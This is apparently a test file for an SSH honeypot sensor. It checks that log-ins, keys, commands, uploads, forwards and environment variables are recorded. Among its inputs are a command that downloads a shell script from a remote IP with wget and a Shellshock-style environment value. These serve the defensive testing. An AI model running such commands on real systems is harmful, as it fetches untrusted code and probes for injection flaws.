import { generateKeyPairSync } from 'node:crypto';
import { once } from 'node:events';
import type { Client, ClientChannel, Connection } from 'ssh2';
import { afterEach, describe, expect, it } from 'vitest';
import { hostKeys } from '../../firmware/sensors/ssh/host-keys.ts';
import { sendPacket } from '../../firmware/sensors/ssh/insides.ts';
import { KexInitTap, type Tapped } from '../../firmware/sensors/ssh/kexinit.ts';
import { loadSsh2 } from '../../firmware/sensors/ssh/library.ts';
import { text } from '../../firmware/sensors/ssh/wire.ts';
import { deviceOf } from './ftp-peer.ts';
import { execute, logIn, newClient, outcome, pause, raw, serve, type Server } from './ssh-rig.ts';

/** SSH_MSG_USERAUTH_REQUEST (RFC 4252 section 6). */
const USERAUTH_REQUEST = 50;

let server: Server;
afterEach(async () => {
  await server.stop();
  expect(server.faults).toEqual([]);
});

const inside = async (): Promise<Client> => {
  server = await serve({ let_in: 'always' });
  return await logIn(server);
};
const shell = async (client: Client, terminal: boolean): Promise<ClientChannel> =>
  await new Promise((resolve, reject) => {
    client.shell(terminal ? { term: 'xterm', cols: 100, rows: 30 } : false, (error, channel) =>
      error === undefined ? resolve(channel) : reject(error),
    );
  });

describe('log-ins', () => {
  it('are refused and recorded byte for byte, with the client in front', async () => {
    server = await serve();
    const passwords = ['secret', 'pässword', '', ' a:b ', 'x'.repeat(3000)];
    for (const password of passwords) {
      await expect(logIn(server, { username: 'адмін', password })).rejects.toThrow('authentication methods failed');
    }
    expect(server.events('login')).toEqual(
      passwords.map((password) => ({ username: 'адмін', password, accepted: false, method: 'password' })),
    );
    const [client] = server.events('client');
    expect(client?.['version']).toBe('SSH-2.0-ssh2js1.17.0');
    expect(client?.['hassh']).toMatch(/^[0-9a-f]{32}$/);
    expect(client?.['kex']).toContain('curve25519-sha256');
    expect(await server.reasons(passwords.length)).toEqual(passwords.map(() => 'visitor-closed'));
  });

  it('that are no UTF-8 are recorded without loss', async () => {
    server = await serve();
    const client = await newClient();
    // ssh2 writes UTF-8 only: the request is made by hand.
    client.connect({
      ...{ host: '127.0.0.1', port: server.port, username: 'u' },
      authHandler: () => {
        const password = [Buffer.from([0]), text('\xfcber\x00\x1b[31m')];
        const request = [text('caf\xe9'), text('ssh-connection'), text('password'), ...password];
        sendPacket(client as unknown as Connection, Buffer.concat([Buffer.from([USERAUTH_REQUEST]), ...request]));
      },
    });
    while (server.events('login').length === 0) await pause(10);
    client.end();
    expect(server.events('login')).toEqual([
      { username: 'caf\\xe9', password: '\\xfcber\\x00\\x1b[31m', accepted: false, method: 'password' },
    ]);
  });

  it('end after six refusals, as sshd says it', async () => {
    server = await serve();
    const client = await newClient();
    const failed = once(client, 'error').catch((error: unknown) => [error]);
    let tried = 0;
    client.connect({
      ...{ host: '127.0.0.1', port: server.port, username: 'root' },
      authHandler: (_left, _partial, next) => {
        tried += 1;
        next({ type: 'password', username: 'root', password: `p${tried}` });
      },
    });
    const [error] = (await failed) as [Error];
    expect(error.message).toBe('Too many authentication failures');
    expect(server.events('login').map(({ password }) => password)).toEqual(['p1', 'p2', 'p3', 'p4', 'p5', 'p6']);
  });

  it.each([
    [{ let_in: 'listed', credentials: ['root:admin', 'a:b:c'] } as const, ['root', 'x'], ['a', 'b:c']],
    [{ let_in: 'after', let_in_after: 1 } as const, ['root', 'x'], ['root', 'x']],
  ])('are let in as %j says', async (options, first, second) => {
    server = await serve(options);
    const client = await newClient();
    const tries = [first, second];
    const ready = once(client, 'ready');
    client.connect({
      ...{ host: '127.0.0.1', port: server.port, username: second[0] ?? '' },
      authHandler: (_left, _partial, next) => {
        const [, password = ''] = tries.shift() ?? [];
        next({ type: 'password', username: second[0] ?? '', password });
      },
    });
    await ready;
    client.end();
    expect(server.events('login').map(({ accepted }) => accepted)).toEqual([false, true]);
  });

  it('by keyboard-interactive are prompted for where it is on', async () => {
    server = await serve({ keyboard_interactive: true });
    const client = await newClient();
    const prompts: string[] = [];
    client.on('keyboard-interactive', (_name, _instructions, _lang, asked, finish) => {
      prompts.push(...asked.map(({ prompt }) => prompt));
      finish(['typed']);
    });
    const failed = once(client, 'error').catch((error: unknown) => [error]);
    client.connect({ host: '127.0.0.1', port: server.port, username: 'root', tryKeyboard: true });
    await failed;
    expect(prompts).toEqual(['Password: ']);
    expect(server.events('login')).toEqual([
      { username: 'root', password: 'typed', accepted: false, method: 'keyboard-interactive' },
    ]);
  });

  it('that stop at the name are a name that was tried', async () => {
    server = await serve();
    await expect(logIn(server, { username: 'oracle', authHandler: ['none'] })).rejects.toThrow();
    await server.reasons();
    expect(server.events('login')).toEqual([{ username: 'oracle', accepted: false, method: 'none' }]);
  });
});

describe('the algorithms', () => {
  it.each([
    ['OpenSSH_7.4', 'curve25519-sha256,', 'diffie-hellman-group14-sha256,diffie-hellman-group14-sha1,'],
    ['OpenSSH_8.4p1 Debian-5+deb11u3', 'curve25519-sha256,', 'diffie-hellman-group14-sha256,'],
  ])('are those of %s', async (version, first, last) => {
    server = await serve({ version });
    const visitor = await raw(server);
    visitor.socket.write('SSH-2.0-x\r\n');
    let kexInit: Tapped = 'more';
    while (kexInit === 'more') {
      await pause(10);
      const end = visitor.received().indexOf('\r\n') + 2;
      if (end > 2) kexInit = new KexInitTap().take(visitor.received().subarray(end));
    }
    visitor.socket.destroy();
    if (typeof kexInit === 'string') throw new Error(kexInit);
    expect(kexInit.kex.startsWith(first)).toBe(true);
    expect(kexInit.kex.replace('kex-strict-s-v00@openssh.com', '').endsWith(last)).toBe(true);
    expect(kexInit.hostKeys).toBe('ecdsa-sha2-nistp256,ssh-ed25519');
  });
});

describe('keys', () => {
  const { privateKey } = generateKeyPairSync('rsa', {
    ...{ modulusLength: 2048, publicKeyEncoding: { type: 'pkcs1', format: 'pem' } },
    privateKeyEncoding: { type: 'pkcs1', format: 'pem' },
  });

  it('are recorded as offered and refused', async () => {
    server = await serve();
    const { utils } = await loadSsh2();
    const parsed = utils.parseKey(privateKey);
    if (parsed instanceof Error) throw parsed;
    await expect(logIn(server, { privateKey, authHandler: ['publickey'] })).rejects.toThrow();
    expect(server.events('key')).toEqual([
      {
        ...{ username: 'root', type: 'ssh-rsa', signed: false, accepted: false },
        fingerprint: expect.stringMatching(/^SHA256:[A-Za-z0-9+/]{43}$/),
        blob: parsed.getPublicSSH(),
      },
    ]);
  });

  it('let in who has the private one, where everybody is let in', async () => {
    server = await serve({ let_in: 'always' });
    const client = await logIn(server, { privateKey, authHandler: ['publickey'] });
    client.end();
    expect(server.events('key').map(({ signed, accepted }) => [signed, accepted])).toEqual([
      [false, false],
      [true, true],
    ]);
  });

  it('of the host are the same at each start and different on each device', async () => {
    server = await serve();
    const { utils } = await loadSsh2();
    const types = hostKeys(deviceOf(1)).map((key) => {
      const parsed = utils.parseKey(key);
      if (parsed instanceof Error) throw parsed;
      expect(parsed.verify(Buffer.from('x'), parsed.sign(Buffer.from('x')))).toBe(true);
      return parsed.type;
    });
    expect(types).toEqual(['ecdsa-sha2-nistp256', 'ssh-ed25519']);
    // An RSA key stands before them, as sshd reads its files, from the moment that it has been made.
    const device = { ...deviceOf(1), rsaKey: (): string | undefined => undefined };
    expect(hostKeys(device)).toHaveLength(2);
    device.rsaKey = () => privateKey;
    expect(hostKeys(device)).toEqual([privateKey, ...hostKeys(deviceOf(1))]);
    expect(hostKeys(deviceOf(1))).toEqual(hostKeys(deviceOf(1)));
    for (const [at, key] of hostKeys(deviceOf(2)).entries()) expect(key).not.toBe(hostKeys(deviceOf(1))[at]);
  });
});

describe('who was let in', () => {
  it('runs commands, with their output, status and addresses recorded', async () => {
    const client = await inside();
    expect(await execute(client, 'echo hello; false')).toEqual({ out: 'hello\n', code: 1 });
    expect(await execute(client, 'cd /tmp && wget http://198.51.100.7/x.sh')).toMatchObject({ code: 1 });
    client.end();
    await server.reasons();
    const [first, second] = server.events('command');
    expect(first).toMatchObject({ command: 'echo hello; false', kind: 'exec', output: 'hello\\x0a', status: 1 });
    expect(second).toMatchObject({ urls: 'http://198.51.100.7/x.sh' });
  });

  it('types into a shell with echo and prompts', async () => {
    const client = await inside();
    const channel = await shell(client, true);
    const done = outcome(channel);
    channel.write('echo ab\x7fc\rexit\r');
    const { out, code } = await done;
    expect(out).toMatch(/^\r\n\r\nBusyBox [^]*# echo ab\x08 \x08c\r\nac\r\n.*# exit\r\n$/);
    expect(code).toBe(0);
    expect(server.events('command').map(({ command }) => command)).toEqual(['echo ac', 'exit']);
    expect(server.events('window')).toEqual([{ terminal: 'xterm', columns: 100, rows: 30 }]);
    client.end();
  });

  it('pipes a script into a shell without a terminal', async () => {
    const client = await inside();
    const channel = await shell(client, false);
    const done = outcome(channel);
    channel.end('echo one\necho two');
    expect(await done).toEqual({ out: 'one\ntwo\n', code: 0 });
    client.end();
  });

  it('leaves files by cat, which are there for the next command', async () => {
    const client = await inside();
    const content = Buffer.from(Array.from({ length: 70_000 }, (_, at) => at & 255));
    expect(await execute(client, 'cat > /tmp/.x', content)).toEqual({ out: '', code: 0 });
    expect(await execute(client, 'wc -c < /tmp/.x')).toMatchObject({ out: expect.stringContaining('70000'), code: 0 });
    client.end();
    const [upload] = server.events('upload');
    expect(upload).toMatchObject({ path: '/tmp/.x', size: 70_000, complete: true });
    const [payload] = server.payloads();
    expect(Buffer.from(payload?.content ?? []).equals(content)).toBe(true);
    expect(payload?.sha256).toBe(upload?.['sha256']);
  });

  it.each([
    'echo a | tee /tmp/y',
    'echo b | cat > /tmp/y; cat /tmp/y',
    'cat > /tmp/z < /etc/hostname',
    'dd if=/etc/hostname of=/tmp/z',
    'echo "cat > x"',
  ])('is not asked for input that nobody reads: %s', async (command) => {
    const client = await inside();
    const channel = await new Promise<ClientChannel>((resolve, reject) => {
      client.exec(command, (error, opened) => (error === undefined ? resolve(opened) : reject(error)));
    });
    // Its side stays open: a command that waited would never end.
    channel.resume();
    await once(channel, 'close');
    client.end();
    expect(server.events('upload')).toEqual([]);
  });

  it('leaves files by the old scp', async () => {
    const client = await inside();
    const told = 'T1 0 1 0\nC0755 5 bot\nhello\0D0755 0 d\nC0644 0 empty\n\0E\n';
    expect(await execute(client, 'scp -r -t /tmp', told)).toEqual({ out: '\0'.repeat(8), code: 0 });
    expect(await execute(client, 'cat /tmp/bot; ls /tmp/d')).toEqual({ out: 'helloempty\n', code: 0 });
    const broken = await execute(client, 'scp -qt "/tmp/half"', 'C0644 9 half\nabc');
    expect(broken.out).toBe('\0\0');
    client.end();
    await server.reasons();
    expect(server.events('upload').map(({ path, size, complete }) => [path, size, complete])).toEqual([
      ['/tmp/bot', 5, true],
      ['/tmp/d/empty', 0, true],
      ['/tmp/half', 3, false],
    ]);
    expect(server.events('command')[0]).toEqual({ command: 'scp -r -t /tmp', kind: 'exec' });
  });

  it('is refused every forward, which is recorded', async () => {
    const client = await inside();
    const refused = await new Promise<Error | undefined>((resolve) => {
      client.forwardOut('127.0.0.1', 4711, 'mail.example', 25, (error) => resolve(error));
    });
    expect(refused?.message).toContain('Channel open failure');
    const listening = await new Promise<Error | undefined>((resolve) => {
      client.forwardIn('0.0.0.0', 8080, (error) => resolve(error));
    });
    expect(listening?.message).toContain('Unable to bind');
    client.end();
    expect(server.events('forward')).toEqual([
      { kind: 'direct-tcpip', host: 'mail.example', port: 25, origin_host: '127.0.0.1', origin_port: 4711 },
      { kind: 'tcpip-forward', host: '0.0.0.0', port: 8080 },
    ]);
  });

  it('sets variables, which are recorded', async () => {
    const client = await inside();
    const channel = await new Promise<ClientChannel>((resolve, reject) => {
      client.exec('echo', { env: { LANG: 'C', EVIL: '() { :; }' } }, (error, opened) =>
        error === undefined ? resolve(opened) : reject(error),
      );
    });
    channel.end();
    await outcome(channel);
    client.end();
    expect(server.events('env')).toEqual([
      { name: 'LANG', value: 'C' },
      { name: 'EVIL', value: '() { :; }' },
    ]);
  });

  it('has ten sessions at one time, no more', async () => {
    const client = await inside();
    const channels: ClientChannel[] = [];
    for (let count = 0; count < 10; count += 1) channels.push(await shell(client, true));
    await expect(shell(client, true)).rejects.toThrow('Channel open failure');
    channels[0]?.end('exit\r');
    await outcome(channels[0] as ClientChannel);
    await shell(client, true);
    client.end();
  });
});

describe('the version exchange', () => {
  it('tells a version that came without algorithms', async () => {
    server = await serve();
    const { socket, closed } = await raw(server);
    socket.end('SSH-2.0-Go\r\n');
    await closed;
    await server.reasons();
    expect(server.events('client')).toEqual([{ version: 'SSH-2.0-Go' }]);
  });

  it('is followed by one disconnect for a length that cannot be', async () => {
    server = await serve();
    const { socket, received, closed } = await raw(server);
    socket.write('SSH-2.0-x\r\n');
    while (!received().includes('kex-strict-s')) await once(socket, 'data');
    socket.write(Buffer.from('ffffffff00', 'hex'));
    await closed;
    expect(received().subarray(-40).toString('latin1')).toContain('Packet corrupt');
    expect(await server.reasons()).toEqual(['malformed']);
  });
});
